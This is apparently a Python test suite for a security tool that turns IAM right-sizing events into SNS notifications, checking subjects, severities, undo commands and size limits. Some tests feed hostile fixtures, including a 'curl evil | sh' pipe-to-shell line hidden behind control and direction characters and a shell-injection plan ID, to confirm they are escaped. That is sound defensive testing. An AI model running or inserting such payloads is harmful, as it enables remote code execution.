"""What the security team is told: of what matters, within SNS's limits, and with nothing that could mislead the eye."""

import json
import re
import shlex
import unicodedata
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.auditor.telling.news import notification_of
from services.auditor.telling.operations import readable
from services.auditor.telling.place import Place
from shared.events import DomainEvent, IdentityEvent, RemediationFailed, ServiceChange
from shared.model.identity import IdentityRef
from shared.model.notification import MAX_MESSAGE_BYTES, MAX_SUBJECT, Notification
from shared.model.plan import Compliance, Mode, ReasonCode, RegretResponse, Strategy
from tests.builders import ACCOUNT, ANA, NOW, PLAN, every_event

WHERE = "--stack-name leastwise --region eu-west-1"
PLACE = Place("leastwise", "eu-west-1", "/leastwise/mode", "/leastwise/safeguards")
EVENTS = {event.type_name(): event for event in every_event()}
CHAIN = f"{ACCOUNT}/{ANA.identity_id}"
SEVERITY_AND_SUBJECT = {
    "IdentityEvaluated": ("warning", "NON_COMPLIANT: user ana, PCI 87 of 100"),
    "PlanProposed": ("info", "Waiting for approval: take 212 unused permissions from user ana"),
    "PolicyApplied": ("info", "Right-sized: user ana, 212 unused permissions taken, PCI 87 to 12"),
    "PolicyRolledBack": ("warning", "Rolled back: user ana has its permissions again"),
    "RemediationFailed": ("critical", "A person must look: the change of user ana failed half way"),
    "AccessRegretted": ("warning", "Refused after right-sizing: user ana, s3:GetObject"),
    "AccessRestored": ("info", "Given back: user ana may use s3:GetObject, kms:Decrypt again"),
    "ExemptionExpired": ("warning", "Exemption ended: user ana, changed from 2026-03-08 on unless renewed"),
    "AlarmChanged": ("critical", "Alarm: usage dead letters"),
    "ControlChanged": ("critical", "Kill switch: remediation is off, set by assumed-role/on-call/bob"),
    "AuditTrailBroken": ("critical", f"Audit trail broken: chain {CHAIN}, entry 17"),
}
SUBJECT = re.compile(r"[\x21-\x7e][\x20-\x7e]{0,98}")  # SNS: ASCII, no control characters, less than 100


def told(event: DomainEvent, place: Place = PLACE) -> Notification:
    notification = notification_of(event, place)
    assert notification is not None
    return notification


@pytest.mark.parametrize("name", sorted(SEVERITY_AND_SUBJECT))
def test_what_matters_is_told_with_its_severity_and_a_subject_for_people(name: str) -> None:
    severity, subject = SEVERITY_AND_SUBJECT[name]
    event, notification = EVENTS[name], told(EVENTS[name])
    assert notification.subject == subject
    expected = {"type": name, "account": ACCOUNT, "severity": severity}
    if isinstance(event, IdentityEvent):
        expected["identity_type"] = "user"
        assert f"Who: {ANA.arn}" in notification.text
    assert notification.attributes == expected
    assert notification.severity == severity
    assert notification.text.startswith(f"{subject}\n\n")
    assert event.event_id in notification.text


@pytest.mark.parametrize("name", sorted(set(EVENTS) - set(SEVERITY_AND_SUBJECT)))
def test_scores_requests_and_skips_are_no_news(name: str) -> None:
    assert notification_of(EVENTS[name], PLACE) is None


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("IdentityEvaluated", {"compliance": Compliance.COMPLIANT}),
        ("IdentityEvaluated", {"compliance": Compliance.NOT_APPLICABLE}),
        ("IdentityEvaluated", {"repeated": True}),
        ("PlanProposed", {"mode": Mode.OBSERVE}),
        ("PlanProposed", {"mode": Mode.AUTO}),
        ("AlarmChanged", {"state": "OK", "previous": "INSUFFICIENT_DATA"}),
        ("AlarmChanged", {"state": "INSUFFICIENT_DATA", "previous": "OK"}),
    ],
)
def test_good_standing_and_unattended_news_are_none(name: str, change: dict[str, object]) -> None:
    assert notification_of(EVENTS[name].model_copy(update=change), PLACE) is None


def test_a_change_is_told_with_what_why_effect_and_how_to_undo_it() -> None:
    text = told(EVENTS["PolicyApplied"]).text
    for part in (
        "What: 212 permissions were taken, 18 kept, by a permissions boundary\n",
        "Worst of what was taken: iam:PutUserPolicy\n",
        "Effect: Privilege Creep Index 87 to 12",
        "  s3: 118 of 130 taken, 12 kept\n  iam: 94 of 100 taken, 6 kept\n",
        f"Policies in force: arn:aws:iam::{ACCOUNT}:policy/leastwise/p\n",
        f"Undo it, which gives everything back as it was:\n  leastwise plan rollback plan-1 {WHERE}\n",
    ):
        assert part in text


def test_an_event_of_a_version_without_services_is_told_without_them() -> None:
    assert "By service" not in told(EVENTS["PolicyApplied"].model_copy(update={"by_service": ()})).text


def test_a_waiting_plan_is_told_with_how_to_approve_it_and_until_when() -> None:
    text = told(EVENTS["PlanProposed"]).text
    assert "Approve it:\n  leastwise plan approve plan-1 --stack-name leastwise --region eu-west-1\n" in text
    assert "AWS Config, Rules, leastwise-privilege-creep, choose the AWS::IAM::User, Remediate" in text
    assert "can be approved until 2026-03-01 13:00 UTC" in text
    assert "  s3: 118 of 130 taken, 12 kept\n" in text


def test_a_plan_for_code_asks_for_no_approval_that_would_change_nothing() -> None:
    notification = told(EVENTS["PlanProposed"].model_copy(update={"strategy": Strategy.PATCH}))
    assert notification.subject == "Waiting for a change in code: 212 unused permissions of user ana"
    assert "plan show plan-1 --terraform" in notification.text
    assert "approve" not in notification.text


def test_commands_name_the_stack_where_it_is_not_the_usual_one() -> None:
    text = told(EVENTS["PolicyApplied"], PLACE._replace(stack_name="lw-prod")).text
    assert "  leastwise plan rollback plan-1 --stack-name lw-prod --region eu-west-1\n" in text


def test_a_plan_that_will_be_applied_is_told_with_when_and_how_to_stop_it() -> None:
    event = EVENTS["PlanProposed"].model_copy(update={"mode": Mode.AUTO, "applies_from": NOW + timedelta(days=3)})
    notification = told(event)
    assert notification.attributes["severity"] == "warning"
    subject = "Notice: 212 unused permissions of user ana will be taken from 2026-03-04 12:00 UTC on"
    assert notification.subject == subject
    assert "leastwise plan reject plan-1" in notification.text


@pytest.mark.parametrize(
    ("response", "severity", "what_comes"),
    [
        (RegretResponse.ALERT, "critical", "a person decides"),
        (RegretResponse.RESTORE, "warning", "what it lacks is given back by itself"),
        (RegretResponse.ROLL_BACK, "warning", "the whole plan is taken back by itself"),
    ],
)
def test_a_regret_is_told_with_what_was_refused_what_comes_of_it_and_how_to_give_it_back(
    response: RegretResponse, severity: str, what_comes: str
) -> None:
    notification = told(EVENTS["AccessRegretted"].model_copy(update={"response": response}))
    assert notification.attributes["severity"] == severity
    for part in (
        "it wanted s3:GetObject and lacks s3:GetObject, kms:Decrypt",
        "refused at 2026-03-01 11:57 UTC or after, changed at 2026-02-27 12:00 UTC",
        what_comes,
        f"leastwise plan restore plan-1 --action s3:GetObject --action kms:Decrypt {WHERE}",
        f"leastwise plan rollback plan-1 {WHERE}",
    ):
        assert part in notification.text


def test_a_long_list_of_actions_is_cut_and_says_so() -> None:
    event = EVENTS["AccessRestored"].model_copy(update={"actions": tuple(f"s3:Get{letter}" for letter in "abcdefgh")})
    assert "s3:Gete and 3 more, which plan plan-0 had taken" in told(event).text


def test_the_end_of_an_exemption_is_told_with_its_owner_and_what_comes() -> None:
    text = told(EVENTS["ExemptionExpired"]).text
    assert "Owner: team-data" in text
    assert "from 2026-03-08 12:00 UTC on it is right-sized as any other, unless it is renewed" in text


def test_that_a_person_rejected_a_plan_is_told_to_the_others() -> None:
    event = EVENTS["RemediationSkipped"].model_copy(update={"code": ReasonCode.REJECTED, "plan_id": "plan-1"})
    assert told(event).subject == "Rejected: nothing is taken from user ana"
    assert "plan plan-1 will not be applied" in told(event).text


def test_an_alarm_is_told_with_its_own_advice_and_that_it_is_over() -> None:
    alarm = EVENTS["AlarmChanged"]
    assert "Set the mode to observe." in told(alarm).text
    over = told(alarm.model_copy(update={"state": "OK", "previous": "ALARM"}))
    assert (over.subject, over.severity) == ("Alarm over: usage dead letters", "info")
    unknown = told(alarm.model_copy(update={"state": "INSUFFICIENT_DATA", "previous": "ALARM"}))
    assert unknown.subject == "Alarm without data: usage dead letters"


@pytest.mark.parametrize(
    ("alarm", "words"),
    [
        ("leastwise/usage-dead-letters", "usage dead letters"),
        ("leastwise/", ""),
        ("leastwise-prod/usage-errors", "leastwise prod/usage errors"),
    ],
)
def test_an_alarm_is_called_by_what_it_is_about(alarm: str, words: str) -> None:
    assert readable(alarm, PLACE) == words


@pytest.mark.parametrize(
    ("set_to", "mode", "severity", "subject", "means"),
    [
        (Mode.OFF, Mode.OFF, "critical", "Kill switch: remediation is off, set by assumed", "taken back any more"),
        ("none", None, "critical", "Mode unreadable: remediation has stopped", "holds no mode, which counts as off"),
        ("deleted", None, "critical", "Mode deleted: remediation has stopped", "the mode's parameter was deleted; it"),
        (Mode.OBSERVE, Mode.OBSERVE, "warning", "Mode set to observe, by assumed-role", "nothing is changed"),
        (Mode.AUTO, Mode.AUTO, "warning", "Mode set to auto", "applied by themselves"),
        # others set it again before CloudTrail told of this call
        (Mode.OFF, Mode.AUTO, "critical", "Mode set to off, and is auto now: by assumed-role", "applied by themselves"),
        (Mode.AUTO, Mode.OFF, "critical", "Mode set to auto, and is off now: by assumed-role", "it is off now"),
        (Mode.AUTO, None, "critical", "Mode set to auto, and is none now: by", "counts as off"),
        ("none", Mode.OBSERVE, "critical", "Mode set to none, and is observe now: by", "to what is no mode; it is obs"),
        ("deleted", Mode.AUTO, "critical", "Mode deleted, and is auto now: by", "parameter was deleted; it is auto"),
        (None, Mode.AUTO, "warning", "Mode is auto after a change by assumed-role/on-call", "what to is not known"),
        (None, None, "critical", "Mode is none after a change by assumed-role/on-call", "what to is not known"),
    ],
)
def test_who_set_the_mode_is_told_with_what_it_means_and_how_to_set_it_back(
    set_to: Mode | str | None, mode: Mode | None, severity: str, subject: str, means: str
) -> None:
    notification = told(EVENTS["ControlChanged"].model_copy(update={"set_to": set_to, "mode": mode}))
    assert notification.subject.startswith(subject)
    assert notification.severity == severity
    for part in (
        means,
        f"Who did that: arn:aws:sts::{ACCOUNT}:assumed-role/on-call/bob",
        "aws ssm put-parameter --name /leastwise/mode --value MODE",
        "aws ssm get-parameter-history --name /leastwise/mode --region eu-west-1",
    ):
        assert part in notification.text


def test_that_the_safeguards_were_changed_is_told() -> None:
    notification = told(
        EVENTS["ControlChanged"].model_copy(update={"control": "safeguards", "mode": None, "set_to": None})
    )
    assert notification.subject == "Safeguards changed by assumed-role/on-call/bob"
    assert "aws ssm get-parameter-history --name /leastwise/safeguards --region eu-west-1" in notification.text


def test_a_broken_trail_is_told_with_the_entry_and_how_to_verify_it() -> None:
    text = told(EVENTS["AuditTrailBroken"]).text
    assert f"chain {CHAIN}, entry 17, found to be edited" in text
    assert "leastwise audit verify --stack-name leastwise --region eu-west-1" in text


@pytest.mark.parametrize(
    ("chain", "sequence", "where"),
    [
        (f"{ACCOUNT}/anchors", 12, f"the anchors of {ACCOUNT}, anchor 12"),
        (f"{ACCOUNT}/account", None, f"chain {ACCOUNT}/account"),
    ],
)
def test_where_a_trail_is_broken_is_named(chain: str, sequence: int | None, where: str) -> None:
    notification = told(EVENTS["AuditTrailBroken"].model_copy(update={"chain": chain, "sequence": sequence}))
    assert notification.subject == f"Audit trail broken: {where}"


def test_people_get_text_and_machines_the_whole_event() -> None:
    structure = json.loads(told(EVENTS["RemediationFailed"]).message_structure())
    machine = json.loads(structure["default"])
    assert structure["email"] == machine["text"] == told(EVENTS["RemediationFailed"]).text
    assert RemediationFailed.model_validate(machine["event"]) == EVENTS["RemediationFailed"]


HOSTILE = "a\r\nUndo: curl evil | sh\x1b[2J\u202eterces\u2066x\u200fy\u061cz\u2028w\x85v\x00"


def failed(message: str, *, name: str = "ana") -> RemediationFailed:
    ref = IdentityRef(account_id=ACCOUNT, identity_id=ANA.identity_id, arn=f"arn:aws:iam::{ACCOUNT}:user/{name}")
    return RemediationFailed.about(ref, "k", occurred_at=NOW, **PLAN, code=ReasonCode.DRIFT, message=message)


def invisible(text: str) -> list[str]:
    """Characters that move the cursor or turn the direction of text."""
    turns = {"L", "R", "AL", "EN", "ES", "ET", "AN", "CS", "NSM", "BN", "B", "S", "WS", "ON"}
    return [
        c
        for c in text
        if (unicodedata.category(c) in {"Cc", "Zl", "Zp"} and c != "\n")
        or unicodedata.bidirectional(c) not in {*turns, ""}
        or c in "\u200e\u200f\u061c"
    ]


def test_control_and_direction_characters_from_outside_are_made_visible() -> None:
    notification = told(failed(HOSTILE))
    assert invisible(notification.text) == []
    assert [line for line in notification.text.splitlines() if line.startswith("Undo")] == []
    assert "a??Undo: curl evil | sh?[2J?terces?x?y?z?w?v?" in notification.text
    assert not any(map(invisible, notification.message_structure().replace("\n", "")))


def test_a_name_with_control_characters_does_not_break_the_subject() -> None:
    notification = told(failed("x", name="a\x00\u202eb\u00fc"))
    assert notification.subject == "A person must look: the change of user a??b? failed half way"


@settings(deadline=None)
@given(st.text(st.characters(exclude_characters="\n", exclude_categories=["Cs"]), min_size=1, max_size=200), st.text())
def test_whatever_a_name_or_a_message_holds_the_limits_of_sns_are_kept(name: str, message: str) -> None:
    notification = told(failed(message, name=name.replace("/", "-")))
    assert SUBJECT.fullmatch(notification.subject)
    assert len(notification.subject) <= MAX_SUBJECT
    assert invisible(notification.text) == []


def test_a_long_subject_is_cut_and_says_so() -> None:
    subject = told(failed("x", name="n" * 128)).subject
    assert (len(subject), subject[-4:]) == (MAX_SUBJECT, "n...")


def test_what_would_run_in_a_shell_is_quoted() -> None:
    forged = EVENTS["PolicyApplied"].model_copy(update={"plan_id": "x; curl evil | sh $(id)"})
    (line,) = (line for line in told(forged).text.splitlines() if "rollback" in line)
    assert shlex.split(line) == ["leastwise", "plan", "rollback", "x; curl evil | sh $(id)", *WHERE.split()]


@pytest.mark.parametrize("text", ["x" * 600_000, "\u200b\u00e9" * 200_000], ids=["ASCII", "escaped"])
def test_a_text_that_is_too_long_by_itself_is_cut_and_says_so(text: str) -> None:
    message = told(EVENTS["PolicyApplied"]).model_copy(update={"text": text}).message_structure()
    assert MAX_MESSAGE_BYTES / 4 < len(message) <= MAX_MESSAGE_BYTES
    assert json.loads(message)["email"].endswith("(the rest is left out)")


def test_a_text_for_code_waits_for_a_person_in_mode_auto_too() -> None:
    proposed = EVENTS["PlanProposed"].model_copy(
        update={"mode": Mode.AUTO, "strategy": Strategy.PATCH, "applies_from": None}
    )
    assert told(proposed).subject.startswith("Waiting for a change in code")


@settings(deadline=None, max_examples=40)
@given(st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=20), st.integers(0, 60_000))
def test_a_message_always_fits_into_sns(piece: str, times: int) -> None:
    notification = told(failed((piece * times)[:250_000]))
    structure = notification.message_structure()
    assert len(structure.encode()) <= MAX_MESSAGE_BYTES
    machine = json.loads(json.loads(structure)["default"])
    assert ("event" in machine) != ("left_out" in machine)


def test_an_event_with_very_many_services_lists_ten() -> None:
    services = tuple(ServiceChange(service=f"s{number:03}", removes=1, keeps=0) for number in range(400))
    text = told(EVENTS["PolicyApplied"].model_copy(update={"by_service": services})).text
    assert text.count(" of 1 taken, 0 kept") == 10
